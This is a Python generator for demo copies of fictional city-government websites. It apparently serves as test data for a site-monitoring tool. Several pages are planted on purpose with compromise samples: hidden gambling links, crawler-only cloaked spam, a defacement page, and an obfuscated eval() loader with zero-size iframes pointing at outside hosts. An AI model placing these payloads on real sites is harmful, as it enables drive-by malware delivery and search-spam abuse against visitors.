#!/usr/bin/env python3
"""Writes the demo website group's pages (data/demo/sites/HOST/...).

Maintainers run it after changing a page's recipe; its output is committed,
so `make run` needs no Python.  Every host is NAME.demo.localhost: libcurl
resolves *.localhost to the loopback addresses itself, so the demo never
asks a DNS server and never leaves 127.0.0.0/8.  Pages link only to each
other; the spam and trojan addresses in the bad pages are never fetched.
"""
import os

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "sites")

CSS = """body{margin:0;font:14px/1.6 "Microsoft YaHei","Noto Sans CJK SC",sans-serif;color:#333}
.w{width:1100px;margin:0 auto}.top{background:#a40000;color:#fff;padding:18px 0}
.top h1{margin:0;font-size:26px}.nav{background:#c81d25}.nav a{color:#fff;display:inline-block;padding:8px 18px;text-decoration:none}
.nav .sub{display:none}.nav li:hover .sub{display:block}.main{padding:16px 0;min-height:300px}
.news li{line-height:30px;border-bottom:1px dashed #ddd}.news li span{float:right;color:#999}
.footer{background:#f1f1f1;padding:16px 0;text-align:center;color:#666;line-height:24px}
.sr-only{position:absolute;width:1px;height:1px;overflow:hidden;clip:rect(0,0,0,0)}"""

NEWS = [
    ("关于开展2026年度政府网站工作年度报表编制的通知", "2026-11-20"),
    ("市政府召开常务会议研究部署冬季安全生产工作", "2026-11-18"),
    ("关于公开征求《城市更新实施办法（征求意见稿）》意见的公告", "2026-11-15"),
    ("2026年第三季度政府信息公开工作情况", "2026-11-10"),
    ("市领导调研重点项目建设推进情况", "2026-11-06"),
    ("关于做好今冬明春供暖保障工作的通知", "2026-11-02"),
]


def page(host, title, org, icp="", psb="", code="", badge=False, body_extra="",
         head_extra="", news=NEWS, inner=True):
    items = "".join(
        f'<li><a href="/art/{i + 1}.html">{t}</a><span>{d}</span></li>'
        for i, (t, d) in enumerate(news))
    foot = [f"网站主办单位：{org}"]
    if code:
        foot.append(f"网站标识码：{code}")
    if icp:
        foot.append(f'<a href="https://beian.miit.gov.cn/" target="_blank">{icp}</a>')
    if psb:
        digits = "".join(ch for ch in psb if ch.isdigit())
        foot.append(f'<a href="https://beian.mps.gov.cn/#/query/webSearch?code={digits}">{psb}</a>')
    badge_html = ('<a href="https://bszs.conac.cn/sitename?method=show&amp;id=demo">'
                  '<img src="/img/dzjg.png" alt="党政机关"></a>') if badge else ""
    return f"""<!DOCTYPE html>
<html lang="zh-CN">
<head>
<meta charset="utf-8">
<title>{title}</title>
<meta name="viewport" content="width=device-width, initial-scale=1">
<link rel="canonical" href="http://{host}/">
<style>
{CSS}
</style>
{head_extra}</head>
<body>
<div class="top"><div class="w"><h1>{title}</h1></div></div>
<div class="nav"><ul class="w"><li><a href="/">首页</a></li><li><a href="/zwgk/">政务公开</a><div class="sub"><a href="/zwgk/xxgk.html">信息公开指南</a></div></li><li><a href="/bsfw/">办事服务</a></li><li><a href="/hdjl/">互动交流</a></li></ul></div>
<div class="main w" id="main">
<h2>通知公告</h2>
<ul class="news">{items}</ul>
{body_extra}
</div>
<div class="footer"><div class="w">{"<br>".join(foot)}<br>{badge_html}</div></div>
</body>
</html>
"""


def inner_page(title, org, text):
    return f"""<!DOCTYPE html>
<html lang="zh-CN"><head><meta charset="utf-8"><title>{title} - {org}</title></head>
<body><h1>{title}</h1><div class="content"><p>{text}</p></div>
<p><a href="/">返回首页</a></p></body></html>
"""


DARK = """<div style="display:none">
<a href="http://www.xpj-bet888.com/">澳门新葡京娱乐场</a>
<a href="http://vip.dafa8999.info/">网上赌场 注册送彩金</a>
<a href="http://www.ssc-jihua77.cc/">时时彩计划 人工精准计划</a>
<a href="http://tyc82024.cc/">太阳城娱乐 日赚千元</a>
<a href="http://www.bet999.org/">彩票注册送彩金</a>
<a href="http://m.pj-777.top/">真人百家乐</a>
</div>"""

TROJAN = """<iframe src="http://ad.union19.xyz/ga.asp" width="0" height="0" frameborder="0"></iframe>
<script>eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--)d[c.toString(a)]=k[c]||c.toString(a);k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}('0.1("<2 3=\\'4://5.6/7.8\\' 9=0 a=0></2>");',11,11,'document|write|iframe|src|http|cnzz-stat|xyz|tj|js|width|height'.split('|'),0,{}))</script>"""

SPIDER_SPAM = """<div class="friend">友情链接：
<a href="http://www.xpj-bet888.com/">澳门新葡京</a> <a href="http://vip.dafa8999.info/">网上赌场</a>
<a href="http://www.ssc-jihua77.cc/">时时彩计划</a> <a href="http://www.bet999.org/">彩票注册送彩金</a>
<a href="http://m.pj-777.top/">真人百家乐</a> <a href="http://tyc82024.cc/">太阳城娱乐</a></div>"""

DEFACED = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Hacked by DemoTeam</title>
<style>body{background:#000;color:#0f0;text-align:center;font-family:monospace}</style></head>
<body><h1>Hacked by DemoTeam</h1><p>Your security is zero. We were here.</p>
<p>Greetz to all crew</p></body></html>
"""

# host, register name, org, icp, psb, site code, badge, recipe
SITES = [
    ("www", "示范市人民政府门户网站", "示范市人民政府办公室", "京ICP备20260001号-1", "京公网安备 11010502060001号", "1101000001", True, "honest"),
    ("jyj", "示范市教育局", "示范市教育局", "京ICP备20260002号-1", "京公网安备 11010502060002号", "1101000002", True, "honest"),
    ("hospital", "示范市人民医院", "示范市人民医院", "京ICP备20260003号-1", "京公网安备 11010502060003号", "", False, "honest"),
    ("fgw", "示范市发展和改革委员会", "示范市发展和改革委员会", "京ICP备20260004号-1", "京公网安备 11010502060004号", "1101000004", True, "darklink"),
    ("wlj", "示范市文化和旅游局", "示范市文化和旅游局", "京ICP备20260005号-1", "京公网安备 11010502060005号", "1101000005", True, "trojan"),
    ("tjj", "示范市统计局", "示范市统计局", "京ICP备20260006号-1", "京公网安备 11010502060006号", "1101000006", True, "defaced"),
    ("scjgj", "示范市市场监督管理局", "示范市市场监督管理局", "京ICP备20260007号-1", "京公网安备 11010502060007号", "1101000007", True, "no-icp"),
    ("kjj", "示范市科学技术局", "示范市科学技术局", "京ICP备20260008号-1", "京公网安备 11010502060008号", "1101000008", True, "expired-tls"),
    ("water", "示范市水务集团", "示范市水务集团有限公司", "京ICP备20260009号-1", "", "", False, "down"),
    ("ggzy", "示范市公共资源交易中心", "示范市公共资源交易中心", "京ICP备20260010号-1", "京公网安备 11010502060010号", "1101000010", True, "cloaking"),
    ("school", "示范市第一中学", "示范市第一中学", "京ICP备20260011号-1", "京公网安备 11010502060011号", "", False, "agent"),
    ("sports", "示范市体育中心", "示范市体育中心", "京ICP备20260012号-1", "京公网安备 11010502060012号", "", False, "honest"),
]


def write(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8") as f:
        f.write(text)


def main():
    for key, name, org, icp, psb, code, badge, recipe in SITES:
        host = f"{key}.demo.localhost"
        d = os.path.join(OUT, host)
        kw = dict(icp=icp, psb=psb, code=code, badge=badge)
        if recipe == "no-icp":
            kw["icp"] = ""
        extra = {"darklink": DARK, "trojan": TROJAN}.get(recipe, "")
        write(os.path.join(d, "index.html"), page(host, name, org, body_extra=extra, **kw))
        for i, (t, _) in enumerate(NEWS):
            write(os.path.join(d, f"art/{i + 1}.html"),
                  inner_page(t, org, f"{org}发布：{t}。详细内容请见附件。"))
        if recipe == "cloaking":
            # What only Baiduspider is given (the demo's nginx picks it by
            # User-Agent): the page with a block of gambling links.
            write(os.path.join(d, "spider.html"),
                  page(host, name, org, body_extra=SPIDER_SPAM, **kw))
        if recipe == "defaced":
            # The page the baseline is learned from is index.html; the demo
            # then serves this one in its place.
            write(os.path.join(d, "defaced.html"), DEFACED)


if __name__ == "__main__":
    main()
